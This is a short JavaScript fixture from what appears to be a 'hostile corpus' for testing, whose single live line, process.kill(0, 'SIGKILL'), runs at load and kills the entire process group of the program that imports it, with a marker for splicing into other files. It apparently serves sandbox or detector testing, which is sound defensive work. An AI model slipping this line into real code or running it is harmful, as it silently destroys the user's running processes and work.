// @ts-nocheck
// Hostile corpus, kind kill-process-group: process.kill(0, 'SIGKILL') at load: the child's whole process group.

// ---- attack ----
try { process.kill(0, 'SIGKILL'); } catch {}

// ---- splice: stub ----
